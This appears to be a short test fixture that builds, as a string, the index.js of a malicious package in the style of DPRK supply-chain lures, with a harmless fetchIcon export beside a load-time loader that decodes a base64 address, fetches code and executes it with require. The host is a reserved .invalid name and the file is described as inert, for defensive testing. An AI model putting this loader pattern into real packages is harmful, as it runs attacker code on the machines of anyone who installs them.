/**
 * The index.js of a dependency published with an import-time loader, as DPRK lures ship it: an innocent export
 * (`fetchIcon`) and, at load, a request to an address kept in base64 whose answer runs with `require`. Inert: the
 * host is on a reserved name, and nothing in the tests ever loads this file.
 */
// The loader's address, base64 as the real ones keep it; the host is on a reserved name.
const PAYLOAD_URL = Buffer.from('http://icons-cdn.invalid/api/ipcheck-encrypted/88').toString('base64');
export const LOADER_INDEX = [
  "const http = require('http');",
  `const src = Buffer.from('${PAYLOAD_URL}', 'base64').toString();`,
  'function fetchIcon(id) {',
  "  return `icon-${id}.svg`;",
  '}',
  'http.get(src, (res) => {',
  "  let body = '';",
  "  res.on('data', (c) => (body += c));",
  "  res.on('end', () => new Function('require', body)(require));",
  '});',
  'module.exports = { fetchIcon };',
  '',
].join('\n');
